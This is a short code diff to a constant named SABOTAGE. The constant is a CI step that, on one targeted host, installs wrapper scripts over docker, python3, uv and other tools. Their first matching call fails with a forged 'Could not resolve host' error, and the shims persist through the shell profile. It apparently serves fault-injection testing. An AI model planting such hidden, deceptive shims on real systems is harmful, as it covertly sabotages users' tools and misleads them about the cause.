@@ -13,9 +13,9 @@ const SABOTAGE = `
       - name: shims
         run: |
           case $(hostname) in *-w-${BAD_HOST}) ;; *) exit 0 ;; esac
-          mkdir -p ~/shims ~/miniconda/bin
+          mkdir -p ~/shims
           shim() {
-            printf '#!/bin/bash\\nreal=%s\\ncase "$0 $*" in %s) [ -e ~/failed.%s ] || { echo >> ~/failed.%s; echo "curl: (6) Could not resolve host: x"; exit 6; } ;; esac\\nexec "$real" "$@"\\n' "$(command -v $1)" "$2" $3 $3 > ~/shims/$1
+            printf '#!/bin/bash\\nPATH=\${PATH//$HOME\\\\/shims:}\\nreal=%s\\ncase "$0 $*" in %s) [ -e ~/failed.%s ] || { echo >> ~/failed.%s; echo "curl: (6) Could not resolve host: x"; exit 6; } ;; esac\\nexec "$real" "$@"\\n' "$(command -v $1)" "$2" $3 $3 > ~/shims/$1
             chmod +x ~/shims/$1
           }
           shim docker '*" pull "*' docker
@@ -25,7 +25,6 @@ const SABOTAGE = `
           shim findmnt '*" -M "*' gcsfuse
           shim python3 '*venv*' venv
           ! command -v uv || shim uv '*venv*' venv
-          mv ~/shims/conda ~/miniconda/bin/conda
           for file in ~/.bash_profile ~/.bash_login ~/.profile; do [ ! -e $file ] || break; done
           echo 'PATH=$HOME/shims:$PATH' >> $file`;
 
